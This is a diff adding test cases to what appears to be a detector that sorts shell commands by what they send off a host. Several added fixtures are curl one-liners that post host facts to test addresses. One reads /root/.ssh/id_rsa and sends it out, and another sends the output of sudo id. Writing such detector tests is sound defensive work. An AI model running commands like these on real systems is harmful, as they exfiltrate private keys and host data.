@@ -91,6 +91,16 @@ describe("what leaves a host", () => {
     ["rsync -a /srv/www/ a@web.example.test:/srv/www/", "data"],
     ["scp /etc/letsencrypt/live/a/privkey.pem deploy@web.example.test:", "data"],
     ["df -P | awk '{print $5}' | curl --data-binary @- https://metrics.example.test/", "data"],
+    // Addresses, counts and sensors, which alerts and name services carry; and all that a command tells.
+    ['curl -d "t=$(cat /sys/class/thermal/thermal_zone0/temp)" http://192.0.2.7/', "data"],
+    ['curl -d "$(cat /sys/class/dmi/id/product_uuid)" http://192.0.2.7/', "host-facts"],
+    ['ip=$(ip -6 -o addr show | head -n 1 | cut -d/ -f1); curl -d "ip=$ip" https://d.example.test/', "data"],
+    ['ip=$(ip addr); curl -d "ip=$ip" https://d.example.test/', "host-facts"],
+    ['curl -d "$(jq -n --arg ip x)" https://d.example.test/', "data"],
+    ['curl -d "$(docker ps --filter health=unhealthy)" https://d.example.test/', "data"],
+    ['curl -d "$(date; sudo /usr/bin/id)" https://d.example.test/', "host-facts"],
+    ['k=$(cat /root/.ssh/id_rsa); curl -d "k=$k" https://d.example.test/', "secrets"],
+    ['k=$(cat /srv/x); curl -d "k=$k" https://d.example.test/', "data"],
   ])("%s: %s", (code, expected) => {
     expect(sent(code)).toBe(expected);
   });
